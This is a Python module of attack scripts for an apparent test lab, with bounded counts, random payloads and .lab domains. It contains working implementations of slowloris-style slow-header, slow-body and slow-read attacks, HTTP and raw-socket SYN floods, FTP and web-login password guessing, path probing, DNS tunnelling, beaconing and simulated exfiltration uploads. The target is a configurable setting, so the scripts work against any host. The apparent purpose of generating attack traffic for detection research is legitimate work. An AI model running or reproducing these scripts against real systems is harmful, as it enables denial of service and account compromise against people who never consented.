"""The lab's own attack scripts, for what no packaged tool does, or does in one manner only.

Each takes a client and the settings its window drew. All are bounded in count; the worker bounds them in time.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
from collections.abc import AsyncIterator, Awaitable, Callable, Sequence
from typing import Any
from urllib.parse import urlencode

from lab.client import Client, Stream, request_head
from lab.dns import query
from lab.segments import raw_socket, segment

__all__ = ["SCRIPTS"]

Settings = dict[str, Any]
Script = Callable[[Client, Settings], Awaitable[None]]


def _head(c: Client, s: Settings, method: str, path: str, *, length: int | None = None, keep: bool = True) -> bytes:
    if s.get("agent", True):
        return request_head(c.rng, method, path, length=length, keep=keep)
    size = "" if length is None else f"Content-Length: {length}\r\n"
    close = "" if keep else "Connection: close\r\n"
    return f"{method} {path} HTTP/1.1\r\nHost: {s['target']}\r\n{size}{close}\r\n".encode()


@contextlib.asynccontextmanager
async def _open(c: Client, s: Settings, buffer: int = 0) -> AsyncIterator[Stream]:
    async with c.connect(s["target"], s["port"], tls=s["port"] == 443, buffer=buffer) as stream:
        yield stream


async def _each(jobs: Sequence[Awaitable[None]]) -> None:
    """All at once; one that the server cuts off does not end the others."""
    results = await asyncio.gather(*jobs, return_exceptions=True)
    for result in results:
        if isinstance(result, BaseException) and not isinstance(result, OSError | EOFError | ValueError | TimeoutError):
            raise result


async def _workers(count: int, at_a_time: int, pause: float, one: Callable[[int], Awaitable[None]]) -> None:
    """Do ``one`` for every number, several at a time."""
    numbers = iter(range(count))

    async def worker() -> None:
        for number in numbers:
            with contextlib.suppress(OSError, EOFError, ValueError, TimeoutError):
                await one(number)
            await asyncio.sleep(pause)

    await _each([worker() for _ in range(at_a_time)])


async def _held(
    c: Client, s: Settings, start: Callable[[Stream], Awaitable[None]], drop: Callable[[Stream], Awaitable[None]]
) -> None:
    """Open connections one after the other and keep each busy with drops."""

    async def one(number: int) -> None:
        await asyncio.sleep(number * s["ramp"])
        async with _open(c, s, s.get("buffer", 0)) as stream:
            await start(stream)
            for _ in range(s["rounds"]):
                await asyncio.sleep(s["pause"] * c.rng.uniform(0.8, 1.2))
                await drop(stream)

    await _each([one(number) for number in range(s["connections"])])


async def slow_headers(c: Client, s: Settings) -> None:
    """Header fields in drops, never the empty line."""

    async def start(stream: Stream) -> None:
        await stream.send(_head(c, s, "GET", "/", keep=False)[:-2])

    async def drop(stream: Stream) -> None:
        await stream.send(f"X-{c.rng.randrange(10**4)}: {'a' * s['width']}\r\n".encode())

    await _held(c, s, start, drop)


async def slow_body(c: Client, s: Settings) -> None:
    """A body in drops, never complete."""

    async def start(stream: Stream) -> None:
        await stream.send(_head(c, s, "POST", "/app/upload", length=s["length"], keep=False))

    async def drop(stream: Stream) -> None:
        await stream.send(b"x" * s["width"])

    await _held(c, s, start, drop)


async def slow_read(c: Client, s: Settings) -> None:
    """A large answer in sips."""

    async def start(stream: Stream) -> None:
        await stream.send(_head(c, s, "GET", s["path"], keep=False))

    async def drop(stream: Stream) -> None:
        await stream.reader.read(s["width"])

    await _held(c, s, start, drop)


async def http_flood(c: Client, s: Settings) -> None:
    """The same request many times."""

    async def one(_: int) -> None:
        async with _open(c, s) as stream:
            for number in range(s["requests"]):
                last = number == s["requests"] - 1
                await stream.send(request_head(c.rng, "GET", s["path"], keep=not last, version=s["version"]))
                await stream.response()

    await _workers(s["count"], s["at_a_time"], 0.0, one)


async def syn_flood(c: Client, s: Settings) -> None:
    """Openings from one port after the other."""
    with raw_socket(c.address) as raw:
        for number in range(s["count"]):
            data = segment(c.address, s["target"], s["base"] + number, s["port"], c.rng.getrandbits(32), s["form"])
            raw.sendto(data, (s["target"], 0))
            await asyncio.sleep(s["pause"] * c.rng.uniform(0.5, 1.5))


async def ftp_guess(c: Client, s: Settings) -> None:
    """A few passwords a session."""

    async def one(_: int) -> None:
        async with c.connect(s["target"], 21) as stream:
            await asyncio.wait_for(stream.reader.readline(), 5)
            for _ in range(s["tries"]):
                for line in (f"USER {s['user']}", f"PASS guess{c.rng.randrange(10**5)}"):
                    await stream.send(line.encode() + b"\r\n")
                    await asyncio.wait_for(stream.reader.readline(), 5)

    await _workers(s["sessions"], s["at_a_time"], s["pause"], one)


async def web_guess(c: Client, s: Settings) -> None:
    """A form filled in with one password after the other."""

    async def one(_: int) -> None:
        async with _open(c, s) as stream:
            for _ in range(s["per_connection"]):
                body = urlencode({"user": s["user"], "password": f"guess{c.rng.randrange(10**6)}"}).encode()
                await stream.send(_head(c, s, "POST", "/app/login", length=len(body)) + body)
                await stream.response()
                await asyncio.sleep(s["pause"] / 4)

    await _workers(s["count"] // s["per_connection"] + 1, s["at_a_time"], s["pause"], one)


async def web_probe(c: Client, s: Settings) -> None:
    """A list of paths."""
    paths, step = s["paths"], s["per_connection"]

    async def one(number: int) -> None:
        async with _open(c, s) as stream:
            for path in paths[number * step : (number + 1) * step]:
                await stream.send(_head(c, s, s["method"], path))
                if s["method"] == "HEAD":
                    await stream.reader.readuntil(b"\r\n\r\n")
                else:
                    await stream.response()

    await _workers(-(-len(paths) // step), s["at_a_time"], s["pause"], one)


async def dns_tunnel(c: Client, s: Settings) -> None:
    """Names that carry data."""

    async def one(_: int) -> None:
        with c.datagrams(s["target"], 53) as sock:
            for _ in range(s["per_socket"]):
                text = (
                    base64.b32encode(c.rng.randbytes(c.rng.randint(s["width"] * 2 // 3, s["width"])))
                    .decode()
                    .rstrip("=")
                    .lower()
                )
                labels = [text[i : i + 60] for i in range(0, len(text), 60)]
                await c.ask(sock, query(f"{'.'.join(labels)}.t.lab", c.rng.choice(s["types"]), c.rng, edns=s["edns"]))
                await asyncio.sleep(s["pause"])

    await _workers(-(-s["count"] // s["per_socket"]), 1, s["pause"], one)


async def beacon(c: Client, s: Settings) -> None:
    """A short message, over and over."""
    port = {"http": 80, "https": 443, "tcp": 7000, "dns": 53}[s["kind"]]
    body = c.rng.randbytes(s["size"])

    async def wait() -> None:
        await asyncio.sleep(s["interval"] * c.rng.uniform(1 - s["jitter"], 1 + s["jitter"]))

    async def one(_: int) -> None:
        if s["kind"] == "dns":
            with c.datagrams(s["target"], 53) as sock:
                await c.ask(sock, query(f"{body[:20].hex()}x.a.t.lab", "TXT", c.rng))
            return
        async with _open(c, {**s, "port": port}) as stream:
            for number in range(s["per_connection"]):
                if number:
                    await wait()
                if s["kind"] == "tcp":
                    await stream.send(body or b"hi")
                    await asyncio.wait_for(stream.reader.read(200), 4)
                else:
                    method, length = ("POST", len(body)) if body else ("GET", None)
                    await stream.send(_head(c, s, method, "/app/api/status", length=length) + body)
                    await stream.response()

    for number in range(-(-s["count"] // s["per_connection"])):
        with contextlib.suppress(OSError, EOFError, ValueError, TimeoutError):
            await one(number)
        await wait()


async def exfil(c: Client, s: Settings) -> None:
    """One file after the other."""
    port = {"tcp": 9000, "http": 80, "chunked": 80, "https": 443}[s["kind"]]

    async def one(number: int) -> None:
        size, chunked = s["sizes"][number], s["kind"] == "chunked"
        async with _open(c, {**s, "port": port}) as stream:
            if s["kind"] != "tcp":
                head = _head(c, s, "POST", "/app/upload", length=None if chunked else size, keep=False)
                await stream.send(head[:-2] + b"Transfer-Encoding: chunked\r\n\r\n" if chunked else head)
            for begin in range(0, size, s["step"]):
                part = c.rng.randbytes(min(s["step"], size - begin))
                await stream.send(b"%x\r\n%s\r\n" % (len(part), part) if chunked else part)
                await asyncio.sleep(s["pace"])
            if s["kind"] == "tcp":
                stream.writer.write_eof()
                await asyncio.wait_for(stream.reader.read(100), 6)
                return
            if chunked:
                await stream.send(b"0\r\n\r\n")
            await stream.response()

    await _workers(len(s["sizes"]), 1, s["pause"], one)


SCRIPTS: dict[str, Script] = {
    f.__name__: f
    for f in (
        slow_headers,
        slow_body,
        slow_read,
        http_flood,
        syn_flood,
        ftp_guess,
        web_guess,
        web_probe,
        dns_tunnel,
        beacon,
        exfil,
    )
}
